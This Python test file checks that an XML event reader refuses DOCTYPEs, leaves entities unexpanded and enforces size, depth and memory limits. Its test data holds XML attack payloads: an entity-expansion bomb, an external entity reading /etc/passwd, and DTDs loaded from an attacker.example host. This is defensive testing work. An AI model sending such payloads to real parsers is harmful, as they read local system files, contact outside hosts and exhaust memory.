"""XML from strangers: nothing of it is followed, expanded, or read without bound."""

import io
import tracemalloc
from collections.abc import Iterator

import pytest

from suyuan.event._model import DOCUMENT_POSITION, Event, Limits, Rejected
from suyuan.event._xml_read import read_xml, read_xml_stream
from tests.event.xml_samples import document, object_event, problems_of

_BOMB = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(
        f'<!ENTITY {outer} "{f"&{inner};" * 10}">'
        for inner, outer in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
_DOCTYPES = [
    _BOMB,
    '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    '<!DOCTYPE x PUBLIC "-//x//y" "http://attacker.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
    "<!DOCTYPE x []>",
    '<?xml version="1.0"?>\n<!-- a comment --><?an instruction?>\n<!DOCTYPE x [\n]>',
]


@pytest.mark.parametrize("doctype", _DOCTYPES)
def test_a_document_type_definition_is_refused(doctype: str) -> None:
    xml = doctype.encode() + document(object_event())
    found = read_xml(xml)
    assert found.events == []
    assert [problem.code for problem in found.problems] == ["event.xml_doctype_refused"]


@pytest.mark.parametrize("doctype", _DOCTYPES)
def test_a_document_type_definition_is_refused_in_every_encoding(doctype: str) -> None:
    declared = doctype if doctype.startswith("<?xml") else f'<?xml version="1.0"?>{doctype}'
    declared = declared.replace('"1.0"', '"1.0" encoding="UTF-16"')
    xml = (declared + document(object_event()).decode()).encode("utf-16")
    assert [code for code, _ in problems_of(xml)] == ["event.xml_doctype_refused"]


@pytest.mark.parametrize("encoding", [b"UTF-7", b"EBCDIC-CP-US", b"x" * 99, b"\0", b"\xff", b""])
def test_an_encoding_that_may_hide_markup_is_refused(encoding: bytes) -> None:
    xml = b'<?xml version="1.0" encoding="%b"?>+ADw-!DOCTYPE x+AD4-<a/>' % encoding
    assert [code for code, _ in problems_of(xml)] == ["event.xml_encoding_unknown"]


def test_a_bare_doctype_says_nothing_and_is_let_through() -> None:
    assert read_xml(b"<!DOCTYPE project>" + document(object_event())).is_valid


def test_no_entity_is_expanded() -> None:
    xml = b"<!DOCTYPE x>" + document(object_event(rest="<acme:a>&secret;</acme:a>"))
    found = read_xml(xml)
    assert [problem.code for problem in found.problems] == ["event.xml_malformed"]
    assert found.problems[0].where.startswith("line 10, column ")
    assert "secret" in found.problems[0].found


@pytest.mark.parametrize(
    ("xml", "where"),
    [
        (b"", "line 1, column 1"),
        (b"hello", "line 1, column 1"),
        (b"<a>\n<b></a>", "line 2, column 8"),
        (b"<a>\n  &x;</a>", "line 2, column 6"),
        (b"<a>\xff</a>", "line 1, column 4"),
        (b"<a x='1' x='2'/>", "line 1, column 15"),
        (document(object_event()) + b"<b/>", "line 13, column 23"),
        (document(object_event())[:-3], "line 13, column 20"),
    ],
)
def test_what_is_no_xml_is_refused_with_line_and_column(xml: bytes, where: str) -> None:
    assert problems_of(xml) == [("event.xml_malformed", where)]


def test_a_prefix_that_is_not_declared_is_refused() -> None:
    codes = [code for code, _ in problems_of(document(object_event(rest="<nope:a/>")))]
    assert codes == ["event.xml_malformed"]


def test_events_before_a_break_are_given_and_the_break_is_told_last() -> None:
    xml = document(object_event(), object_event()).replace(b"</EventList>", b"<Object")
    *events, end = read_xml_stream(io.BytesIO(xml))
    assert all(isinstance(event, Event) for event in events)
    assert isinstance(end, Rejected)
    assert end.position == DOCUMENT_POSITION
    assert end.problems[0].code == "event.xml_malformed"


# -- limits ----------------------------------------------------------------------------------


def test_a_document_over_the_limit_of_bytes_is_refused() -> None:
    xml = document(*[object_event()] * 1_000)
    found = read_xml(xml, limits=Limits(document_bytes_max=100_000))
    assert [problem.code for problem in found.problems] == ["event.document_too_large"]


def test_a_document_over_the_limit_of_events_is_refused() -> None:
    found = read_xml(document(*[object_event()] * 4), limits=Limits(events_max=3))
    assert [problem.code for problem in found.problems] == ["event.events_too_many"]
    assert len(found.events) == 3


def test_an_event_over_the_limit_of_bytes_ends_a_stream() -> None:
    xml = document(object_event(rest=f"<acme:a>{'<acme:b/>' * 100_000}</acme:a>"))
    *_, end = read_xml_stream(io.BytesIO(xml), limits=Limits(event_bytes_max=200_000))
    assert isinstance(end, Rejected)
    assert end.problems[0].code == "event.event_too_large"


def test_a_text_over_the_limit_is_refused() -> None:
    xml = document(object_event(rest=f"<acme:a>{'x' * 200_000}</acme:a>"))
    assert read_xml(xml).is_valid
    found = read_xml(xml, limits=Limits(text_length_max=100_000))
    assert [problem.code for problem in found.problems] == ["event.text_too_long"]


def test_a_list_over_the_limit_is_refused() -> None:
    epcs = "".join(f"<epc>urn:uuid:{number}</epc>" for number in range(30_000))
    found = read_xml(document(object_event(epcs=epcs)), limits=Limits(list_length_max=20_000))
    assert [problem.code for problem in found.problems] == ["event.list_too_long"]


_MANY = {
    "attributes": "<acme:a {}/>".format(" ".join(f"a{number}='1'" for number in range(50_000))),
    "name spaces": "".join(f'<x:a xmlns:x="urn:x{number}"/>' for number in range(10_000)),
    "names": "".join(f"<acme:a{number}/>" for number in range(50_000)),
    "elements": "<acme:a/>" * 100_000,
    "repeated fields": "<action>ADD</action>" * 50_000,
    "stray texts": "<acme:a><b/>x</acme:a>" * 20_000,
    "unknown fields": f"<ilmd>{'<a/>' * 50_000}</ilmd>",
}


@pytest.mark.parametrize("name", _MANY)
def test_very_many_of_anything_are_taken_or_refused_soon(name: str) -> None:
    # Each of these took minutes while something about it was quadratic.
    found = read_xml(document(object_event(rest=_MANY[name])))
    assert len(found.events) == (name in ("name spaces", "names", "elements"))


def test_deep_nesting_is_refused_before_it_can_hurt() -> None:
    for depth in (100, 1_000, 100_000):
        for name in ("acme:a", "extension", "ilmd"):
            rest = f"<{name}>" * depth + f"</{name}>" * depth
            assert problems_of(document(object_event(rest=rest))) != []


def test_problems_are_bounded() -> None:
    bad = object_event().replace("ADD", "EAT")
    found = read_xml(document(*[bad] * 100), limits=Limits(problems_max=10))
    assert len(found.problems) == 10


# -- streams ---------------------------------------------------------------------------------


class _Endless(io.RawIOBase):
    """A document of any length that is never in memory."""

    def __init__(self, count: int) -> None:
        self._pieces = self._written(count)
        self._rest = b""

    @staticmethod
    def _written(count: int) -> Iterator[bytes]:
        before, event, after = document("EVENT").partition(b"EVENT")
        yield before
        event = object_event().encode()
        for _ in range(count):
            yield event
        yield after

    def read(self, size: int = -1, /) -> bytes:
        while len(self._rest) < size:
            piece = next(self._pieces, b"")
            if not piece:
                break
            self._rest += piece
        given, self._rest = self._rest[:size], self._rest[size:]
        return given


def _peak_bytes(count: int) -> int:
    tracemalloc.start()
    seen = sum(isinstance(item, Event) for item in read_xml_stream(_Endless(count)))  # type: ignore[arg-type]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert seen == count
    return peak


def test_memory_stays_flat_however_long_the_stream() -> None:
    _peak_bytes(500)  # caches
    assert _peak_bytes(5_000) < 1.5 * _peak_bytes(500)


def test_a_stream_and_a_whole_document_give_the_same() -> None:
    bad = object_event().replace("ADD", "EAT")
    xml = document(*[object_event(), bad, "<extension><What/></extension>"] * 40)
    whole = read_xml(xml)
    streamed = list(read_xml_stream(io.BytesIO(xml)))
    assert [item.body for item in streamed if isinstance(item, Event)] == [
        event.body for event in whole.events
    ]
    told = [problem for item in streamed if isinstance(item, Rejected) for problem in item.problems]
    assert told == whole.problems
